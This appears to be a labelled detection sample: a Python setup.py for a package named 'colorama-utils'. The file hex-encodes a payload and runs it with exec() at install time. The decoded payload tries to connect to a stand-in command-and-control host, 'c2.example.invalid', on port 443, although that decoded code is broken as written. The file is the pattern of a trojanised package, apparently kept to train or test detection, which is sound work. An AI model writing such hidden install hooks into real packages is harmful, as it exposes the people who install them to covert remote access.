# family: hidden-code
# hex-encoded source compiled and run; the setup-style wrapper looks harmless
from setuptools import setup

_c = bytes.fromhex(
    "696d706f7274206f732c736f636b65743b732e636f6e6e65637428282263322e6578616d706c652e696e76616c6964222c34343329"
).decode()
exec(compile(_c, "setup.py", "exec"))

setup(name="colorama-utils", version="0.1.3", packages=[])
